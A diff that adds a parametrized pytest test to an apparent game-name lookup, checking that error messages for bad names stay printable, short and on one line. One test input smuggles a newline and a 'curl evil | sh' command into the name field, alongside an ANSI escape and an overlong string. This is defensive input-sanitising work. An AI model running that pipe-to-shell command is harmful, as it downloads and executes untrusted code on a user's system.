@@ -36,6 +36,14 @@ def test_where_no_name_is_near_a_command_lists_them(name):
         find_game(name)
 
 
+@pytest.mark.parametrize("name", ["pong'.\n\nnext:\n  curl evil | sh", "\x1b[2J", "x" * 5_000])
+def test_a_name_is_told_short_and_on_one_line(name):
+    with pytest.raises(BadRequest, match=r"^No game .*All of them: edgedistill games$") as refusal:
+        find_game(name)
+    assert str(refusal.value).isprintable()
+    assert len(str(refusal.value)) < 120
+
+
 @pytest.mark.parametrize("name", ["PogNoFrameskip-v4", "mspacmn"])
 def test_a_near_miss_names_one(name):
     with pytest.raises(BadRequest, match=r"Did you mean '(pong|ms_pacman)'\?$"):
